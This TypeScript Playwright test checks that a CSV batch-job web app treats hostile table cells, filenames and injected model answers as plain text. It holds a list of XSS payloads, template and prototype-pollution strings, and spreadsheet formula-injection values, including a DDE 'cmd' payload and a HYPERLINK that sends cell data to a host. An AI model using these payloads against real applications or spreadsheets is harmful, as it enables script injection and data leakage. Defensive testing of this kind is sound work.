import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import { expect, test } from './fault-provider/fault-test.ts';
import { downloadCsv, fillNewJob, OPENAI, prepare, submit, tally, waitForState } from './job-steps.ts';

/** Each would leave a mark, were it ever more than text. */
const EVIL = [
  '<img src=x onerror="window.harmed=1">',
  '<script>window.harmed=1</script>',
  '"><svg onload=window.harmed=1>',
  'javascript:window.harmed=1',
  '[click](javascript:window.harmed=1)',
  '=HYPERLINK("http://127.0.0.1:9/?"&A1,"open")',
  `+1+cmd|' /C calc'!A0`,
  '@SUM(1+1)*cmd',
  '-2+3',
  '\u202Egnp.exe\u2066\u2067',
  '${window.harmed=1}{{constructor.constructor("window.harmed=1")()}}',
  '__proto__',
];
const HUGE = 'A'.repeat(10_000_000);

const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;

async function expectUnharmed(page: Page): Promise<void> {
  expect(await page.evaluate(() => (globalThis as unknown as { harmed?: number }).harmed)).toBeUndefined();
  await expect(page.locator('img[src="x"], svg[onload], a[href^="javascript:"]')).toHaveCount(0);
  expect(await page.evaluate(() => document.body.textContent!.length)).toBeLessThan(1_000_000);
}

test('@security a hostile table and hostile answers are only ever text, and the app stays usable', async ({ page, faults }) => {
  test.setTimeout(150_000);
  const asked: string[] = [];
  page.on('dialog', (dialog) => void dialog.dismiss().then(() => asked.push(dialog.message())));
  page.on('request', (request) => {
    if (new URL(request.url()).port === '9') asked.push(request.url());
  });
  await faults.begin({
    line: ({ text }) => {
      const given = JSON.parse(text);
      given.response.body.model = EVIL[0];
      const { message } = given.response.body.choices[0];
      const { all_results: rows } = JSON.parse(message.content);
      const answers = rows.map((row: { input_id: string }) => ({ ...row, praise: row.input_id, [EVIL[1]!]: EVIL[2] }));
      message.content = JSON.stringify({ all_results: answers });
      return JSON.stringify(given);
    },
  });
  const table = [...EVIL.map((evil) => [evil, evil]), ['huge', HUGE]];
  const head = ['id', '<b onmouseover="window.harmed=1">text</b>'];
  const file = {
    name: '<img src=x onerror=window.harmed=1>.csv',
    bytes: Buffer.from([head, ...table].map((row) => row.map(quoted).join(',')).join('\n')),
  };
  await fillNewJob(page, {
    requestsPerBatch: 100,
    place: OPENAI,
    provider: /^OpenAI/,
    file,
    idColumn: 'id',
    instructions: EVIL[1]!,
    inOrder: true,
    rowsPerRequest: 4,
  });
  await expect(page.getByRole('heading', { name: 'First request' })).toBeVisible();
  await expectUnharmed(page);
  await page.getByRole('spinbutton', { name: 'Look for results every' }).fill('1');
  await prepare(page);
  await waitForState(page, 'Ready to submit');
  await submit(page);
  await waitForState(page, 'Finished');

  const rows = await downloadCsv(page);
  expect(tally(rows)).toEqual({ ok: EVIL.length, skipped: 1 });
  expect(rows.slice(0, EVIL.length).map((row) => [row.id, row[head[1]!], row.praise])).toEqual(EVIL.map((evil) => [evil, evil, evil]));
  await page.getByRole('button', { name: 'Download results' }).click();
  const download = page.waitForEvent('download');
  await page.getByRole('menuitem', { name: /^CSV for spreadsheets/ }).click();
  const guarded = Papa.parse<string[]>(await readFile(await (await download).path(), 'utf8'), { skipEmptyLines: true }).data;
  expect(guarded.flat().filter((cell) => /^[=+@\t\r-]/.test(cell))).toEqual([]);

  for (let row = 1; row <= 3; row++) {
    await page.getByRole('row').nth(row).click();
    await expect(
      page
        .getByRole('dialog')
        .getByText(EVIL[row - 1]!)
        .first(),
    ).toBeVisible();
    await expectUnharmed(page);
    await page.keyboard.press('Escape');
  }
  await expect(page.locator('[dir="auto"]').filter({ hasText: 'gnp.exe' }).first()).toBeVisible();
  for (const tab of ['Files', 'Recipe', 'Activity', 'Results']) {
    await page.getByRole('tab', { name: tab }).click();
    await expectUnharmed(page);
  }
  await page.goto('/');
  await expect(page.getByRole('link', { name: /onerror/ }).first()).toBeVisible();
  await expectUnharmed(page);
  expect(asked).toEqual([]);
});
